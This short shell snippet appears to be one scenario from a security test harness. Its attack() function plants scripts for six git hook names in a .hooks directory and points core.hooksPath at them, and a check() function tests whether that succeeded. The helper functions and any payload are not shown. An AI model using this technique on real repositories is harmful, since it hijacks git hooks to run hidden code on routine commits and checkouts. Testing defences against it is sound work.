# Points core.hooksPath to hooks in its own worktree.
attack() {
  work
  mkdir .hooks
  for hook in pre-commit post-commit post-checkout post-merge reference-transaction post-index-change; do plant ".hooks/$hook"; done
  everywhere core.hooksPath "$PWD/.hooks"
}
check() { pwned; }
